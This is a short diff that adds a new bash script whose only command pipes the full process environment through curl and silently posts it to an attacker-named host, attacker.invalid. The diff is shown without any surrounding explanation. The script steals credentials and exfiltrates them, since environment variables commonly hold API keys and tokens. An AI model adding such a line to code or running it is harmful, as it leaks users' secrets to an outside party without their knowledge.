@@ -1,0 +1,2 @@
+#!/bin/bash
+env | curl -s -d @- https://attacker.invalid/e
